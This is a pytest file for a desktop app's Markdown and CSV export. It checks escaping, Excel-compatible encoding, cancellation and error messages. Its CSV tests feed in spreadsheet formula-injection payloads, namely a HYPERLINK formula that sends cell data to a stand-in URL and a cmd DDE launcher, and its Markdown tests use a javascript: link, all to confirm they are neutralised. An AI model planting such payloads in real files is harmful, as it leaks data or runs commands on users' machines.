"""Markdown and CSV: every letter arrives, none of them does anything."""

import csv

import pytest

from shkc_desktop.export.csv_table import guarded
from shkc_desktop.export.destination import ExportCancelled
from shkc_desktop.export.formats import export
from shkc_desktop.export.markdown import escaped
from shkc_desktop.export.options import ExportOptions, OwnText
from shkc_desktop.model.failure import Failure


def table(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_markdown_shows_words_note_place_and_reference(make, tmp_path):
    written = export(
        "markdown", [make(note="租价待比", tags=("人才",))], ExportOptions(title="成果"), tmp_path / "a.md"
    )
    text = (tmp_path / "a.md").read_text(encoding="utf-8")
    assert text.startswith(
        "# 成果\n\n2022 年　1 个区　1 条\n\n## 人才\n\n> 设备按小时出租。<sup>[1]</sup>\n>\n> ——嘉定区，2022\n"
    )
    assert (
        "- 位置：8.1 优化空间格局·嘉定区，第12段\n- 标签：人才\n- 批注：租价待比\n- 链接：<shkc://annotation/" in text
    )
    assert text.endswith("## 参考文献\n\n[1]某市科技局. 2022某市科技进步报告[R]. 上海：示例出版社，2023.\n")
    assert written.count == 1 and written.warnings == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# 不是标题", "\\# 不是标题"),
        ("1. 不是列表", "1\\. 不是列表"),
        ("1.5 倍", "1.5 倍"),
        ("-5.22%", "\\-5.22%"),
        ("a<b>与*c*_d_", "a\\<b>与\\*c\\*\\_d\\_"),
        ("> 不是引文", "\\> 不是引文"),
        ("[点](javascript:1)", "[点\\](javascript:1)"),
        ("[点][1] [1]: x", "[点\\][1] [1\\]: x"),
        ("R&D &lt; &#60;", "R&D \\&lt; \\&#60;"),
    ],
)
def test_markdown_signs_are_shown_letter_by_letter(text, expected):
    assert escaped(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("http://x/?"&A1,"点")', '\'=HYPERLINK("http://x/?"&A1,"点")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("-1+1", "'-1+1"),
        ("-5.22%", "-5.22%"),
        ("+1,234", "+1,234"),
        ("嘉定=好", "嘉定=好"),
    ],
)
def test_a_cell_is_never_a_formula(text, expected):
    assert guarded(text) == expected


def test_csv_is_what_excel_expects(make, tmp_path):
    excerpt = make('他说"好"，\n换行', note="=1+1", created="2026-11-20T08:00:00+00:00")
    export("csv", [excerpt], ExportOptions(), tmp_path / "a.csv")
    raw = (tmp_path / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    row = table(tmp_path / "a.csv")[0]
    assert (row["摘录"], row["批注"], row["年份"], row["段"]) == ('他说"好"，\n换行', "'=1+1", "2022", "12")
    assert row["标注时间"] == "2026-11-20 08:00:00"


def test_a_table_has_each_excerpt_once_and_the_readers_words(make, tmp_path):
    items = [make(tags=("甲", "乙")), OwnText("我的话")]
    assert export("csv", items, ExportOptions(), tmp_path / "a.csv").count == 1
    assert [row["摘录"] for row in table(tmp_path / "a.csv")] == ["我的话", "设备按小时出租。"]


def test_control_characters_are_taken_out_and_told(make, tmp_path):
    written = export("markdown", [make("甲\x00\x0b乙\ud83d", note="a\r\nb")], ExportOptions(), tmp_path / "a.md")
    assert written.warnings[0] == "有 3 个无法显示的控制字符没有导出。"
    assert "> 甲乙<sup>" in (tmp_path / "a.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ["markdown", "csv"])
def test_a_cancelled_export_leaves_everything_as_it_was(make, tmp_path, name):
    path = tmp_path / "mine"
    path.write_text("旧")
    with pytest.raises(ExportCancelled):
        export(name, [make()], ExportOptions(), path, None, lambda: True)
    assert path.read_text() == "旧" and list(tmp_path.iterdir()) == [path]


def test_a_folder_that_is_absent_is_one_sentence(make, tmp_path):
    with pytest.raises(Failure, match="无法写入"):
        export("csv", [make()], ExportOptions(), tmp_path / "没有" / "a.csv")


def test_progress_is_told_up_to_the_end(make, tmp_path):
    told = []
    items = [make(number=number) for number in range(120)]
    export("markdown", items, ExportOptions(), tmp_path / "a.md", lambda done, total: told.append((done, total)))
    assert told == [(0, 120), (50, 120), (100, 120), (120, 120)]


@pytest.mark.parametrize("name", ["长" * 90 + ".md", "a" * 300, "."])
def test_a_name_that_cannot_be_is_one_sentence(make, tmp_path, name):
    with pytest.raises(Failure, match=r"无法写入|文件夹"):
        export("markdown", [make()], ExportOptions(), tmp_path / name)
    assert list(tmp_path.iterdir()) == []
